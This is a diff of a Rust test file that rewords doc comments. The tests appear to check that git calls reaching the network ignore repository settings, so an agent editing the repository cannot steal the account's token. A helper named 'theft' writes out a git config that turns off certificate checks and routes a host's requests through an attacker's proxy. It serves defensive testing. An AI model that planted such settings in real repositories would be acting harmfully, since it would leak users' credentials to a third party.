@@ -1,5 +1,4 @@
-//! Git that connects to a remote obeys no setting of the repository, so that nobody who may change the repository gets the
-//! account's token.
+//! Attacks on the account's token: an agent changes the repository's configuration while git is about to connect.
 
 use std::{
     fs,
@@ -109,7 +108,7 @@ async fn commands_do_not_reach_the_git_directory_of_a_call_that_uses_the_network
     eventually("the removal of the folder", async || test.git_dirs().is_empty()).await;
 }
 
-/// The settings by which a git that obeys them sends the token of a host elsewhere.
+/// Settings that redirect git's requests for a host to the thief's proxy, without checking certificates.
 fn theft(host: SocketAddr, thief: SocketAddr) -> String {
     format!("[http \"https://{host}/\"]\n\tsslVerify = false\n\tproxy = http://{thief}\n")
 }
